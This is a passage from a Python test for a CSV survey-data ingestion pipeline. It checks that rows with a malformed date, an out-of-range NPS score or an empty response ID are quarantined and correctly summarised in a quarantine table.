        HEADER + "M1,31/12/2024,11,x,en\n"  # two problems on one row
        "M2,2024-05-01 10:00:00,12,x,en\n"
        "M3,2024-05-01 10:00:00,-3,x,en\n"
        ",2024-05-01 10:00:00,5,x,en\n",
    )

    report = world.ingest_with_companion()

    assert outcome_of(report, "many.csv").rows_quarantined == 4
    assert world.rows(
        "select column_name, reason, rows, first_row, example_value from ops.quarantine_summary "
        "order by column_name"
    ) == [
        ("NPS", "expected integer 0..10", 3, 1, "-3"),
        ("RecordedDate", "expected timestamp", 1, 1, "31/12/2024"),
        ("ResponseId", "required field response_ref is empty", 1, 4, None),
    ]
    world.assert_nothing_else_lost(report)
